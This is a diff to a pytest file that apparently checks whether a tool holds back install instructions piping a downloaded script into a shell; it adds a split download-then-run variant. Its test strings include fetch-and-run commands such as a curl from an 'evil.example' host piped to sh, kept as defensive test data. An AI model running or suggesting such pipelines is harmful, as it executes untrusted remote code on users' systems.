@@ -27,6 +27,7 @@ ELSEWHERE = "Install Rust with `curl -s https://w.evil.example/rustup.sh | sh`"
 OTHER_PATH = ("Install Rust with `curl --proto '=https' --tlsv1.2 -sSf "
               "https://sh.rustup.rs/x.sh | sh`")
 NOT_PIPED = "Set up with `curl -sSf https://get.example.dev/init.sh | sh`"
+SPLIT = "Set up with `curl -sSf https://get.example.dev/init.sh -o init.sh`|`sh`"
 
 
 @pytest.fixture
@@ -46,7 +47,7 @@ def test_the_trees_own_pipeline_confirms_the_item(repo: Path, tip: str) -> None:
 
 
 def test_a_pipeline_the_tree_does_not_pipe_is_held(repo: Path, tip: str) -> None:
-    held = _held(repo, tip, [ELSEWHERE, OTHER_PATH, NOT_PIPED])
+    held = _held(repo, tip, [ELSEWHERE, OTHER_PATH, NOT_PIPED, SPLIT])
     assert all(held), held
     assert "| sh`" in (held[2] or "")  # the pipeline is what nobody confirmed
 
